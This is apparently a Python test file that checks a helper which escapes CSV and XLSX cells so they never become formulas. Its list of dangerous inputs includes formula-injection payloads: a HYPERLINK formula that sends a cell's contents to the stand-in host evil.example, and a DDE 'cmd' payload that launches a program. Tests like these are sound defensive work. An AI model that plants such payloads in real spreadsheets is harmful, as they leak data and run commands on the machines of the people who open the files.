"""Cells of the CSV and XLSX files amicable writes never become formulas (OWASP, "CSV Injection").

The post run's manifest is the CSV that carries outside text (tests/letters/test_batch.py); the
rule itself is tested here, for CSV and for an XLSX written with openpyxl.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from amicable.security import spreadsheets
from amicable.security.spreadsheets import safe_cell, safe_row
from tests.domain.test_framework_free import banned_imports

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_starts_like_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    ["Marie Dupont", "Rue de la Loi 16", "", " =1+1", "'=1+1", "BE71 0961 2345 6769", "a=b"],
)
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value", [Decimal("-12.50"), -3, 4, 1.5, None, date(2025, 3, 3), True], ids=repr
)
def test_numbers_and_other_values_stay_what_they_are(value: object) -> None:
    assert safe_cell(value) is value


def test_a_csv_row_keeps_numbers_and_neutralises_text() -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(
        safe_row([1, Decimal("-12.50"), "-12.50", "=1+1", "Rue Haute 12"])
    )
    assert out.getvalue() == "1,-12.50,'-12.50,'=1+1,Rue Haute 12\n"


def test_an_xlsx_cell_stays_text_and_an_amount_stays_a_number(tmp_path: Path) -> None:
    row = [
        '=HYPERLINK("http://evil.example/","Open")',
        "@SUM(A1)",
        Decimal("-12.50"),
        "Dupont",
    ]
    for name, cells in (("raw", row), ("safe", safe_row(row))):
        workbook = Workbook()
        sheet = workbook.active
        assert sheet is not None
        sheet.append(cells)
        workbook.save(tmp_path / f"{name}.xlsx")

    raw = load_workbook(tmp_path / "raw.xlsx").active
    safe = load_workbook(tmp_path / "safe.xlsx").active
    assert raw is not None
    assert safe is not None
    # Written as is, openpyxl stores the first cell as a formula: that is the attack.
    assert raw["A1"].data_type == "f"
    assert [cell.data_type for cell in safe[1]] == ["s", "s", "n", "s"]
    assert [cell.value for cell in safe[1]] == [
        '\'=HYPERLINK("http://evil.example/","Open")',
        "'@SUM(A1)",
        -12.5,
        "Dupont",
    ]


def test_the_rule_imports_no_framework_so_any_layer_may_use_it() -> None:
    source = Path(spreadsheets.__file__).read_text(encoding="utf-8")
    assert banned_imports(source) == []
    assert "from amicable" not in source
